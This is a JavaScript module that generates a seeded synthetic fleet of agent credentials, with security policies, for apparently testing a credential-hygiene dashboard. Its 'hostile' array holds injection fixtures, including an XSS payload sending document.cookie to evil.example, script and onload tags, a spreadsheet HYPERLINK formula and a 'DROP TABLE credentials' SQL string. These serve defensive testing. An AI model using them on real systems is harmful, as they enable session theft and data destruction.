// A seeded fleet that looks like one: mostly short-lived and narrow, a few that stick out, and names that agents chose badly
// or with bad intent. Nothing in it depends on anything but the seed and the time it is started at.

export function random(seed) {
  let a = seed >>> 0;
  const next = () => {
    a = (a + 0x6d2b79f5) | 0;
    let t = Math.imul(a ^ (a >>> 15), 1 | a);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  return {
    next,
    between: (a, b) => a + next() * (b - a),
    whole: (a, b) => Math.floor(a + next() * (b - a + 1)),
    log: (a, b) => Math.exp(Math.log(a) + next() * (Math.log(b) - Math.log(a))),
    of: (list) => list[Math.floor(next() * list.length)],
    chance: (p) => next() < p,
    hex: (n) => Array.from({ length: n }, () => Math.floor(next() * 16).toString(16)).join(""),
  };
}

export const MIN = 60, HOUR = 3600, DAY = 86400;

// Texts such as an agent may put into its session name, its user agent or a claim.
export const hostile = [
  `<img src=x onerror="fetch('//evil.example/'+document.cookie)">`,
  `<script>window.acted=1</script>`,
  `javascript:window.acted=1//`,
  `=HYPERLINK("http://evil.example","click")`,
  `"><svg/onload=window.acted=1>`,
  `\u202Egnp.exe\u202C {{7*7}} \${7*7}`,
  `a`.repeat(400),
  `'; DROP TABLE credentials;--`,
];

export const owners = ["platform-team", "data-team", "reliability-team", "research-team", "records-team", "security-team", "payments-team", "search-team", "ml-training", "support-tools", "mobile-backend", "partner-integrations"];
export const systems = { deployments: "Deployment register" };
const kinds = ["summariser", "indexer", "planner", "triage", "extractor", "router", "reviewer", "crawler", "forecaster", "reconciler"];

export const sources = [
  { source: "vault", instance: "prod", type: "token", share: 0.545 },
  { source: "vault", instance: "prod", type: "lease", share: 0.1 },
  { source: "vault", instance: "staging", type: "token", share: 0.08 },
  { source: "cloudtrail", instance: "main", type: "sts_session", share: 0.14 },
  { source: "cloudtrail", instance: "main", type: "access_key", share: 0.002 },
  { source: "gcpaudit", instance: "main", type: "service_account_key", share: 0.003 },
  { source: "spire", instance: "prod", type: "x509_svid", share: 0.1 },
  { source: "jwt", instance: "gateway", type: "jwt", share: 0.03 },
];

export const policies = [
  { id: "over-broad-agent-token", title: "An agent holds far more than it uses, for far longer than its task takes.", severity: "high", mode: "enforce", grace: 4 * DAY, match: "all",
    rationale: "A token that may write what its agent only reads is worth stealing. The agent gets a few days to show what it needs; what it does not use by then is taken away, and comes back only with a reason.",
    metrics: [["permission_scope_complexity", "vault", "greater_than", "10", "permissions"], ["unused_permission_ratio", "vault", "greater_than", "50%", "ratio"], ["lifetime", "vault", "greater_than", "720h", "duration"], ["credential_age", "vault", "greater_than", "72h", "duration"]],
    hint: "Give the role only what the agent uses now; ask for the rest when the task that needs it comes again." },
  { id: "long-lived-agent-token", title: "One token serves for longer than a week.", severity: "medium", mode: "enforce", grace: 4 * DAY,
    rationale: "A token that lives as long as its deployment is found by whoever finds the deployment. A week is enough for any task of this site; what needs longer has an exception with a reason and an end.",
    metrics: [["credential_age", "vault", "greater_than", "168h", "duration"]],
    hint: "Log in anew for each task, or renew a short-lived token; do not keep one for the whole deployment." },
  { id: "probing-agent", title: "An agent tries what it was never granted.", severity: "critical", mode: "notify", grace: null,
    rationale: "One refused call is a mistake, many of one kind are a bug. Refusals of many different kinds are somebody looking for what else the token can do, so it is the distinct permissions that count and not the number of calls.",
    metrics: [["elevation_attempts", "any", "greater_or_equal", "4", "permissions"]],
    hint: "Ask the owner what the agent was looking for; compare its instructions and inputs with what it tried." },
  { id: "idle-cloud-key", title: "A key of the cloud lies about unused.", severity: "low", mode: "observe", grace: 14 * DAY,
    rationale: "Who does not use a key will not notice that somebody else does.",
    metrics: [["idle_time", "iam", "greater_than", "720h", "duration"]], hint: "Delete the key, or exchange it for a role that is assumed when it is needed." },
  { id: "nobody-answers", title: "Nobody answers for a credential.", severity: "medium", mode: "notify", grace: 7 * DAY,
    rationale: "What belongs to nobody is rotated by nobody.",
    metrics: [["unresolved_identity", "any", "equals", "true", ""]], hint: "Say in the catalog who runs this agent." },
];
const bySeverity = ["info", "low", "medium", "high", "critical"];
const words = (s) => (s >= DAY ? `${Math.round(s / DAY)} days` : s >= HOUR ? `${Math.round(s / HOUR)} hours` : `${Math.round(s / MIN)} minutes`);

function judge(c, now) {
  const v = [];
  const age = c.issued === null ? null : (now - c.issued) / 1000;
  const life = c.never ? Infinity : c.expires === null || c.issued === null ? null : (c.expires - c.issued) / 1000;
  const add = (policy, metric, value, threshold, condition, deviation, title) => {
    const p = policies.find((x) => x.id === policy);
    v.push({ policy, metric, value, threshold, condition, severity: p.severity, hint: p.hint, evidence: `seen in ${c.source}/${c.instance}`, deviation, title });
  };
  if (c.source === "vault" && age > 7 * DAY) add("long-lived-agent-token", "credential_age", words(age), "7 days", "greater_than", age / (7 * DAY) - 1, `It has been in use for ${words(age)}; at most 7 days are allowed.`);
  if (c.source === "vault" && c.permissions > 10 && c.unused > 0.5 && life > 30 * DAY - 1 && age > 3 * DAY) {
    add("over-broad-agent-token", "permission_scope_complexity", String(c.permissions), "10", "greater_than", c.permissions / 10 - 1 + (c.never ? 8 : life / (30 * DAY) - 1), `It may do ${c.permissions} things and has used ${c.used}; it lives ${c.never ? "for ever" : `for ${words(life)}`}.`);
  }
  if (c.attempts >= 4) add("probing-agent", "elevation_attempts", String(c.attempts), "4", "greater_or_equal", c.attempts / 4, `It tried ${c.attempts} things that it was never granted.`);
  if (c.source !== "vault" && c.lastUsed !== null && now - c.lastUsed > 30 * DAY * 1000) add("idle-cloud-key", "idle_time", words((now - c.lastUsed) / 1000), "30 days", "greater_than", (now - c.lastUsed) / (30 * DAY * 1000) - 1, `It was not used for ${words((now - c.lastUsed) / 1000)}.`);
  if (c.owner === null) add("nobody-answers", "unresolved_identity", "true", "true", "equals", 0.5, "Nobody is known who answers for it.");
  v.sort((a, b) => b.deviation - a.deviation);
  c.violations = v;
  c.deviation = v.length ? Math.max(...v.map((x) => x.deviation)) : 0;
  c.severity = v.length ? v.map((x) => x.severity).sort((a, b) => bySeverity.indexOf(b) - bySeverity.indexOf(a))[0] : null;
  return c;
}

export function fleet({ seed = 7, n = 4000, now = Date.now() } = {}) {
  const r = random(seed);
  const agents = [];
  for (let i = 0; i < 60; i++) agents.push({ name: `${r.of(kinds)}-${i}`, owner: i === 37 ? null : r.of(owners) });
  const list = [];
  const make = (o) => {
    const c = {
      source: "vault", instance: "prod", type: "token", agent: null, owner: null, never: false, scopeKnown: true, state: "active",
      attempts: 0, denied: 0, utilization: 1, uses24: 0, parent: null, ...o,
    };
    c.key ??= c.source === "vault" ? `vault/${c.instance}/${c.type}/hmac-sha256:${r.hex(40)}` : `${c.source}/${c.instance}/${c.type}/${r.hex(24)}`;
    c.used = c.permissions === null ? null : Math.max(0, Math.min(c.permissions, Math.round(c.permissions * (1 - c.unused))));
    c.uses = Math.round(c.uses24 * Math.max(1, Math.min(30, (now - (c.issued ?? now)) / 86400e3)));
    c.lastUsed ??= c.uses24 > 0 ? now - r.between(1, 3600) * 1000 : c.issued === null ? null : c.issued + r.between(0, 0.3) * (now - c.issued);
    list.push(judge(c, now));
    return c;
  };
  const ago = (s) => now - s * 1000;
  const on = (s) => now + s * 1000;

  // The demo's agents.
  make({ agent: "steady", owner: "platform-team", issued: ago(9 * MIN), expires: on(6 * MIN), permissions: 3, weight: 4, unused: 0, uses24: 140, utilization: 0.98 });
  make({ agent: "ingest", owner: "data-team", issued: ago(12 * DAY), expires: on(33 * DAY), permissions: 48, weight: 171, unused: 0.94, uses24: 310, utilization: 0.31 });
  make({ agent: "diagnostic", owner: "reliability-team", issued: ago(30 * DAY), expires: on(335 * DAY), permissions: 212, weight: 790, unused: 0.98, uses24: 22, utilization: 0.07 });
  make({ agent: "diagnostic/child", owner: "reliability-team", issued: ago(2 * DAY), expires: on(335 * DAY), permissions: 212, weight: 790, unused: 1, uses24: 0, utilization: 0.01 });
  make({ agent: "probing", owner: "research-team", issued: ago(26 * HOUR), expires: on(46 * HOUR), permissions: 9, weight: 22, unused: 0.3, uses24: 905, utilization: 3.4, attempts: 37, denied: 214 });
  make({ agent: "excepted", owner: "records-team", issued: ago(70 * DAY), expires: on(110 * DAY), permissions: 31, weight: 88, unused: 0.2, uses24: 64, utilization: 0.9 });
  make({ agent: "ownerless", owner: null, issued: ago(19 * DAY), expires: on(160 * DAY), permissions: 26, weight: 95, unused: 0.8, uses24: 3, utilization: 0.1 });

  hostile.forEach((text, i) => make({
    agent: text, owner: i % 3 ? r.of(owners) : text, issued: ago(r.between(1, 9) * HOUR), expires: on(r.between(1, 20) * HOUR), permissions: 4, weight: 8, unused: 0.25, uses24: 12, utilization: 0.7,
    attempts: i === 0 ? 6 : 0, denied: i === 0 ? 11 : 0, source: "cloudtrail", instance: "main", type: "sts_session", key: `cloudtrail/main/sts_session/${i}-${text.slice(0, 80)}`,
  }));

  const shares = sources.map((s) => s.share);
  const pickSource = () => {
    let x = r.next();
    for (let i = 0; i < shares.length; i++) if ((x -= shares[i]) < 0) return sources[i];
    return sources[0];
  };
  while (list.length < n) {
    const s = pickSource();
    const a = r.chance(0.92) ? agents[r.whole(0, 36)] : r.of(agents);
    const base = { source: s.source, instance: s.instance, type: s.type, agent: r.chance(0.03) ? null : a.name, owner: a.owner };
    const kind = r.next();
    if (s.type === "access_key" || s.type === "service_account_key") {
      const idle = r.chance(0.3);
      make({ ...base, issued: r.chance(0.15) ? null : ago(r.log(9 * DAY, 300 * DAY)), expires: null, never: r.chance(0.6), permissions: r.whole(4, 60), weight: r.log(6, 250), unused: r.between(0.3, 0.99), uses24: idle ? 0 : r.whole(0, 300), utilization: r.log(0.02, 2), lastUsed: idle ? ago(r.log(10 * DAY, 200 * DAY)) : undefined });
    } else if (kind < 0.925) {
      const life = r.log(5 * MIN, 12 * HOUR);
      const age = r.next() * life;
      const p = r.whole(1, 8);
      make({ ...base, issued: ago(age), expires: on(life - age), permissions: p, weight: p * r.between(1, 2.4), unused: r.chance(0.7) ? 0 : r.between(0, 0.6), uses24: r.whole(1, 400), utilization: r.between(0.6, 1.25), attempts: r.chance(0.012) ? r.whole(1, 3) : 0 });
    } else if (kind < 0.985) {
      const life = r.log(1 * DAY, 20 * DAY);
      const age = r.next() * Math.min(life, 6.5 * DAY);
      const p = r.whole(2, 22);
      make({ ...base, issued: ago(age), expires: on(life - age), permissions: p, weight: p * r.between(1, 3), unused: r.between(0, 0.8), uses24: r.whole(0, 500), utilization: r.log(0.05, 1.6), attempts: r.chance(0.05) ? r.whole(1, 3) : 0 });
    } else if (kind < 0.991) {
      const life = r.log(32 * DAY, 400 * DAY);
      const age = r.between(3.1 * DAY, Math.min(life * 0.8, 120 * DAY));
      const p = r.whole(11, 90);
      make({ ...base, issued: ago(age), expires: on(life - age), permissions: p, weight: p * r.between(1.4, 4), unused: r.between(0.5, 0.98), uses24: r.whole(0, 200), utilization: r.log(0.02, 0.8), attempts: r.chance(0.12) ? r.whole(1, 12) : 0 });
    } else if (kind < 0.997) {
      // Seen in use, but what granted it was not read: its scope, its end or its beginning are unknown.
      const noEnd = r.chance(0.6);
      make({ ...base, issued: r.chance(0.5) ? null : ago(r.log(HOUR, 20 * DAY)), expires: noEnd ? null : on(r.log(HOUR, 20 * DAY)), permissions: null, weight: null, scopeKnown: false, unused: NaN, uses24: r.whole(0, 90), utilization: r.chance(0.6) ? null : r.between(0.2, 1) });
    } else {
      const p = r.whole(2, 9);
      make({ ...base, issued: ago(r.between(1, 40) * HOUR), expires: on(r.between(2, 60) * HOUR), permissions: p, weight: p * 2, unused: r.between(0, 0.4), uses24: r.whole(50, 900), utilization: r.between(0.9, 2.5), attempts: r.whole(1, 9), denied: r.whole(1, 60) });
    }
  }
  list.sort((a, b) => b.deviation - a.deviation || (b.weight ?? 0) - (a.weight ?? 0));
  const byKey = new Map(list.map((c) => [c.key, c]));
  const named = (agent) => list.find((c) => c.agent === agent);
  return { list, byKey, named, agents, now, r };
}
